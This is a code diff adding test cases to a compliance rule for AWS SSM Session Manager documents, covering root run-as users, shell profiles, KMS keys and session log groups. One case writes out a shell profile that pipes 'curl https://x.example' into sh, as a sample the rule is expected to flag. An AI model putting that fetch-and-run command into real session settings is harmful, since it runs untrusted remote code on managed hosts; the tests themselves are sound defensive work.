@@ -42,6 +42,46 @@ testRule(sessionDocument, DEPLOYMENT, [
     }),
     'conforms',
   ],
+  [
+    'a session as root',
+    given('SSM::Document', session({ ...INPUTS, runAsEnabled: true, runAsDefaultUser: 'root' })),
+    ['finding my-number/It'],
+  ],
+  [
+    'a session as another user',
+    given('SSM::Document', session({ ...INPUTS, runAsEnabled: true, runAsDefaultUser: 'operator' })),
+    'conforms',
+  ],
+  [
+    'a session that begins with a download',
+    given('SSM::Document', session({ ...INPUTS, shellProfile: { linux: 'curl https://x.example | sh' } })),
+    ['finding my-number/It'],
+  ],
+  [
+    'a session that begins in a folder',
+    given('SSM::Document', session({ ...INPUTS, shellProfile: { linux: 'cd /var/log && exec bash' } })),
+    'conforms',
+  ],
+  [
+    'a session under the key of AWS',
+    given('SSM::Document', session({ ...INPUTS, kmsKeyId: 'alias/aws/ssm' })),
+    ['finding my-number/It'],
+  ],
+  [
+    'a session recorded in a log that the deployment has',
+    given('SSM::Document', session(INPUTS), { Log: resource('Logs::LogGroup', { LogGroupName: '/sanso/sessions' }) }),
+    'conforms',
+  ],
+  [
+    'a session recorded in a log that the deployment does not have',
+    given('SSM::Document', session(INPUTS), { Log: resource('Logs::LogGroup', { LogGroupName: '/sanso/app' }) }),
+    ['finding lgwan/Sessions', 'finding my-number/It'],
+  ],
+  [
+    'commands in place of a shell',
+    given('SSM::Document', { ...session(INPUTS, 'InteractiveCommands'), Name: 'SSM-SessionManagerRunShell' }),
+    ['finding my-number/It'],
+  ],
   ['a session without a key', given('SSM::Document', session({ ...INPUTS, kmsKeyId: '' })), ['finding my-number/It']],
   [
     'a session without a record',
